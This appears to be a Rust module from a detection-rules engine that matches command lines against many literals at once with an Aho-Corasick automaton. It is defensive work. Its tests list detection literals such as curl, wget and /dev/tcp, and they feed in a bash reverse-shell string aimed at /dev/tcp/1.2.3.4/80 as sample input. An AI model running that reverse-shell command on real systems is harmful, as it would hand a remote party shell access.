//! Literals a string must hold somewhere, many at once: the command-line literals rules are
//! indexed by, and `or`-ed "contains" patterns of one test (`"*curl*", "*wget*", ...`). One
//! Aho-Corasick pass over the string replaces a search per literal (the Linux rules index
//! twenty command-line literals, each searched on every exec before).

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};

/// Fewer literals than this are searched one by one. On the rules bench's command lines a
/// search per literal ([`crate::pattern::find_ascii_ci`]) cost about 180 instructions, its
/// `memchr2` dispatch dominating on short strings: the automaton is used from one literal.
const AUTOMATON_MIN: usize = 1;

/// Literals searched together, ASCII case-insensitively or exactly.
#[derive(Debug, Clone)]
pub(super) struct Pieces {
    /// Lowercased when case-insensitive.
    pieces: Vec<Box<[u8]>>,
    ci: bool,
    /// Built on first use, for [`AUTOMATON_MIN`] literals or more: most trees (one per event
    /// shape and rule) are never evaluated, and building costs far more than a search.
    automaton: OnceLock<Option<AhoCorasick>>,
}

impl Pieces {
    pub(super) fn new(ci: bool) -> Pieces {
        Pieces {
            pieces: Vec::new(),
            ci,
            automaton: OnceLock::new(),
        }
    }

    /// Adds a literal (lowercase ASCII when case-insensitive); returns its index.
    pub(super) fn add(&mut self, piece: &[u8]) -> usize {
        if let Some(i) = self.pieces.iter().position(|p| **p == *piece) {
            return i;
        }
        self.pieces.push(piece.into());
        self.automaton = OnceLock::new();
        self.pieces.len() - 1
    }

    pub(super) fn is_empty(&self) -> bool {
        self.pieces.is_empty()
    }

    pub(super) fn ci(&self) -> bool {
        self.ci
    }

    pub(super) fn iter(&self) -> impl Iterator<Item = &[u8]> {
        self.pieces.iter().map(|p| &p[..])
    }

    /// The automaton, built on first use (when there are enough literals to pay for it).
    fn automaton(&self) -> Option<&AhoCorasick> {
        self.automaton
            .get_or_init(|| {
                if self.pieces.len() < AUTOMATON_MIN {
                    return None;
                }
                // Literals come from rules: a few hundred bytes at most. A build failure (a
                // size limit) leaves the one-by-one search, which answers the same.
                let build = |kind| {
                    AhoCorasick::builder()
                        .ascii_case_insensitive(self.ci)
                        .match_kind(MatchKind::Standard)
                        .kind(kind)
                        .build(&self.pieces)
                };
                build(Some(AhoCorasickKind::DFA))
                    .or_else(|_| build(None))
                    .ok()
            })
            .as_ref()
    }

    /// Whether `hay` holds any of the literals.
    #[inline]
    pub(super) fn any_in(&self, hay: &[u8]) -> bool {
        match self.automaton() {
            Some(ac) => ac.is_match(hay),
            None => self.pieces.iter().any(|p| self.find(hay, p)),
        }
    }

    /// Calls `found` with the index of each literal `hay` holds (a literal found more than
    /// once may be reported more than once).
    pub(super) fn each_in(&self, hay: &[u8], mut found: impl FnMut(usize)) {
        match self.automaton() {
            Some(ac) if self.pieces.len() == 1 => {
                if ac.is_match(hay) {
                    found(0);
                }
            }
            // Most strings hold no literal: a plain search (with the automaton's prefilter)
            // settles that faster than the overlapping walk.
            Some(ac) => {
                if ac.is_match(hay) {
                    for m in ac.find_overlapping_iter(hay) {
                        found(m.pattern().as_usize());
                    }
                }
            }
            None => {
                for (i, p) in self.pieces.iter().enumerate() {
                    if self.find(hay, p) {
                        found(i);
                    }
                }
            }
        }
    }

    fn find(&self, hay: &[u8], piece: &[u8]) -> bool {
        if self.ci {
            crate::pattern::find_ascii_ci(hay, piece).is_some()
        } else {
            memchr::memmem::find(hay, piece).is_some()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(ci: bool, pieces: &[&str]) -> Pieces {
        let mut s = Pieces::new(ci);
        for p in pieces {
            s.add(p.as_bytes());
        }
        s
    }

    #[test]
    fn the_automaton_finds_what_the_searches_find() {
        let words = ["curl", "wget", "base64", "ab", "bc", "/dev/tcp", "http"];
        for ci in [false, true] {
            let fast = set(ci, &words);
            assert!(fast.automaton().is_some());
            let slow = set(ci, &words);
            assert!(slow.automaton.set(None).is_ok());
            for hay in [
                "abc",
                "xx CURL yy",
                "curl http://x",
                "bash -i >& /dev/tcp/1.2.3.4/80",
                "nothing",
                "",
                "BASE64 -d",
            ] {
                let (mut a, mut b) = (Vec::new(), Vec::new());
                fast.each_in(hay.as_bytes(), |i| a.push(i));
                slow.each_in(hay.as_bytes(), |i| b.push(i));
                a.sort_unstable();
                a.dedup();
                assert_eq!(a, b, "{hay:?} ci={ci}");
                assert_eq!(fast.any_in(hay.as_bytes()), !b.is_empty(), "{hay:?}");
            }
        }
        // Overlapping literals are both found.
        let s = set(false, &["ab", "bc", "cd", "de"]);
        let mut found = Vec::new();
        s.each_in(b"abcde", |i| found.push(i));
        found.sort_unstable();
        assert_eq!(found, vec![0, 1, 2, 3]);
    }
}
